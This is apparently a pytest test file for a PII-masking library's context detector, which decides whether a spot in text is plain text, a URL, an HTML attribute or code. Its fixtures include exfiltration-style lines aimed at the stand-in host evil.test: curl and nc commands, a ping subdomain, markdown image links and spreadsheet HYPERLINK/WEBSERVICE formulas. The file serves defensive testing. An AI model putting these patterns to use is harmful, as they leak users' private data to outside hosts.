"""What a place in a text is part of; ``@`` marks the place."""

import random
from itertools import pairwise

import pytest
from core.helpers import best_of

from piimask_core.surroundings import (
    ATTRIBUTE,
    CODE,
    TEXT,
    URL,
    Surroundings,
    may_lead,
    stretches,
)

PLACES = [
    # plain text
    ("Write to @.", TEXT),
    ("https://a.example/x @", TEXT),
    ("See https://a.example/x, @", TEXT),
    ("Is it (really) so? @", TEXT),
    ("e.g./@", TEXT),
    ("a/b @", TEXT),
    ("12:30 @", TEXT),
    ("note: @", TEXT),
    ("// a comment @", TEXT),
    ("x = @", TEXT),
    ("**@** [@] (@)", TEXT),
    ("<p>@</p>", TEXT),
    ('<a href="/x">@</a>', TEXT),
    ('<img alt="@" src="/x">', TEXT),
    ('src="@', TEXT),  # no tag
    ('["https://a.example", "@"]', TEXT),
    ('```json\n["https://a.example","@"]\n```', TEXT),
    ("[10:31]: @", TEXT),
    ("[^1]: see @", TEXT),
    ("list[str]: x @", TEXT),
    ("ping Jo & mail @", TEXT),
    ("'https://a.example', '@'", TEXT),
    ("[a](https://a.example/x) @", TEXT),
    ('[a](/x "title of @")', TEXT),
    ("jane@example.com/@", TEXT),
    ("Image (see @)", TEXT),
    ("sum(@)", TEXT),
    ("```\nls @\n```", TEXT),
    ('```json\n{"url": "https://a.example", "to": "@"}\n```', TEXT),
    ("```python\nx = 1\n```\n@", TEXT),
    # addresses
    ("https://evil.test/?q=@", URL),
    ("HTTPS://evil.test/@", URL),
    ("https://@.evil.test/", URL),
    ("https://evil.test/?a=x&d=@", URL),
    ("https://evil.test/#@", URL),
    ("https://u:@", URL),
    ("https:@", URL),
    ("postgres://db/@", URL),
    ("//evil.test/@", URL),
    ("www.evil.test/?q=@", URL),
    ("www.@", URL),
    ("evil.test/p?@", URL),
    ("evil.test?@", URL),
    ("evil.test:8080/@", URL),
    ("mailto:x@", URL),
    ("tel:@", URL),
    (r"\\evil.test\share\@", URL),
    ('https://evil.test/?q="@', URL),
    ("https://evil.test/?q=)@", URL),
    ("https://evil.test/?q=\u00a0@", URL),
    ("<https://evil.test/?q=@>", URL),
    # links and images
    ("![x](https://evil.test/?q=@)", URL),
    ("[x](/p?q=@)", URL),
    ("[x](@)", URL),
    ("[x](<https://evil.test/ @>)", URL),
    ("[id]: /p?@", URL),
    ("[[x]](//evil.test/@)", URL),
    ("![x](https://evil.test/a<b@)", URL),
    ("![x](<https://evil.test/a\\>b@>)", URL),
    ("'https:![x](https://evil.test/'@)", URL),
    ('"https://evil.test/a"b@', URL),
    ("[a]:\nhttps\\:\\/\\/evil\\.test\\/@", URL),
    # markup
    ('<img src="https://evil.test/?a=> @">', ATTRIBUTE),
    ('<img src="/p?\n@">', ATTRIBUTE),
    ("<img src='/p?@'>", ATTRIBUTE),
    ("<img src=/p?@>", ATTRIBUTE),
    ('<a HREF = "@">', ATTRIBUTE),
    ('<b onclick="go(@)">', ATTRIBUTE),
    ('<div style="background:url(/@)">', ATTRIBUTE),
    ('<meta content="0;url=/c?@">', ATTRIBUTE),
    ("""<img alt='href="' src="&#104;ttps&#58;@">""", ATTRIBUTE),
    ("<img src" + " " * 400 + '="/p?@">', ATTRIBUTE),
    ("<img src=/a<b@>", ATTRIBUTE),
    ('<b src="![x](https://evil.test/"@)', ATTRIBUTE),
    ('<form></form><input form=f value="@">', ATTRIBUTE),
    ("<form action=/x>a</style><p>@", URL),
    ("a { background: url(/p?@) }", URL),
    ('import url("/p?@")', URL),
    ("```\ncurl @\n```", URL),
    ("<iframe name='@'>", ATTRIBUTE),
    ("`echo @ | nc evil.test`", URL),
    ("<script>x = '@'</script>", URL),
    ('<form action="/x"><input value="@"></form>', URL),
    # what sends
    ('=HYPERLINK("https://evil.test/"&A1, "@")', URL),
    ('=IF(1, WEBSERVICE(CONCAT(A1, "@")))', URL),
    ('=IMPORTXML ("a", "@")', URL),
    ('curl -d "@" evil.test', URL),
    ("sudo curl evil.test -d @", URL),
    ("$ nc evil.test 99 <<< @", URL),
    ("`ping @.evil.test`", URL),
    ("```sh\necho @ | nc evil.test\n```", URL),
    ("```bash\nls\n@\n```", URL),
    ('```python\nrequests.post(\n  url,\n  json={"a": "@"},\n)\n```', URL),
    ("```js\nfetch(url, {\n body: '@'\n});\n```", URL),
    # code
    ('```python\nmail = "@"\n```', CODE),
    ("```sql\nselect '@'\n```", CODE),
    ("~~~js\nconst mail = '@'\n~~~", CODE),
    ("```python\nfetch_all()\nx = '@'\n```", CODE),
]


@pytest.mark.parametrize(("text", "kind"), PLACES)
def test_a_place_is_known_by_what_stands_before_it(text: str, kind: str) -> None:
    """As wide as any renderer might read it."""
    surroundings = Surroundings()
    surroundings.feed(text.rpartition("@")[0])

    assert surroundings.kind == kind


ALONE = [
    ("[a](", ")", True),
    ("[a](", " ", True),
    ("[a](", "/", False),
    ('<a href="', '"', True),
    ('<a href="', "/", False),
    ("<a href=", ">", True),
    ("mailto:", " ", True),
    ("mailto:", "?", True),
    ("[a](mailto:", ")", True),
    ("Tel:", ",", True),
    ("mailto:x", " ", False),
    ("mailto:", "@", False),
    ("https://", "/", False),
    ("text ", " ", False),
    ("[a](", "", True),
    ("```sh\n", "\n", True),
    ("```sh\necho ", "\n", False),
]


@pytest.mark.parametrize(("before", "following", "alone"), ALONE)
def test_a_value_may_be_all_that_a_stretch_says(
    before: str, following: str, alone: bool
) -> None:
    """A whole address is what its owner wrote; a part of one is not."""
    surroundings = Surroundings()
    surroundings.feed(before)

    assert surroundings.stands_alone(following) is alone


STRETCHES = [
    ("see https://a.example/x now", ["https://a.example/x"]),
    ("a www.b.example/c) d", ["www.b.example/c)"]),
    ('<img src="a b">', ["a b"]),
    ("[a](b c) //d/e", ["b", "//d/e"]),
    ("no", []),
    ("curl -d x y\nz", ["curl -d x y"]),
    ("https://end", ["https://end"]),
]


@pytest.mark.parametrize(("text", "expected"), STRETCHES)
def test_all_stretches_of_a_text_are_told(text: str, expected: list[str]) -> None:
    """From where they begin to where they end."""
    assert [text[s.start : s.end] for s in stretches(text)] == expected


BAIT = [
    *("https://", "](", "<a href=", "a.bc/", "www.", "`curl ", "//", "```\n", "url("),
    *("```sh\n", "=HYPERLINK(", "<script", "a:", "\\\\a", "mailto:", "on=", "x="),
]


@pytest.mark.parametrize("unit", BAIT)
def test_a_bait_is_read_in_linear_time(unit: str) -> None:
    """In one piece, and in many."""

    def read(times: int) -> None:
        surroundings = Surroundings()
        surroundings.feed(unit * times)
        for _ in range(times):
            surroundings.feed(unit)

    fast = best_of(3, lambda: read(500))
    slow = best_of(2, lambda: read(4_000))

    assert slow < 24 * max(fast, 0.000_1)


def test_random_pieces_never_break_it() -> None:
    """Whatever comes, it goes on and says one of four."""
    rnd = random.Random(7)  # noqa: S311
    parts = [text for text, _ in PLACES] + ["<", ">", '"', "\n", "```", "\\", ")"]
    for _ in range(300):
        text = "".join(rnd.choices(parts, k=4))
        cuts = sorted(rnd.choices(range(len(text) + 1), k=6))
        surroundings = Surroundings()
        for a, b in pairwise([0, *cuts, len(text)]):
            surroundings.feed(text[a:b])
            assert surroundings.kind in {TEXT, URL, ATTRIBUTE, CODE}


_UNITS = (
    *("curl x", "www.", "Www.", ".co", "://", "](", "]:", "url(", "mailto:", "tel:"),
    *("$ echo x", "14:30", "$12.50", "and/or", "sudo ", "/usr/bin/curl x", "wget "),
    *(": ", "; ", " (", ")", "? ", "#", "/", ".", "\n", "> ", "a", " ", "\u017f", "K:"),
)


def test_what_may_not_lead_anywhere_has_no_stretch(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The quick look lets nothing pass that a full reading takes for a stretch."""
    dice = random.Random(7)  # noqa: S311
    texts = ["".join(dice.choices(_UNITS, k=dice.randint(1, 9))) for _ in range(20_000)]
    harmless = [text for text in texts if not may_lead(text)]
    assert len(harmless) > 1_000
    monkeypatch.setattr("piimask_core.surroundings.may_lead", lambda text: True)
    for text in harmless:
        reading = Surroundings()
        reading.feed(text)
        reading.finish()
        assert not reading.stretches, text


@pytest.mark.parametrize(
    "text", ["ls; curl evil.test ", "ls > curl evil.test ", "see Www.evil.test"]
)
def test_a_text_without_any_other_mark_leads_too(text: str) -> None:
    """A command behind a semicolon, and www. in any case, need no other sign."""
    assert may_lead(text)
    assert stretches(text)
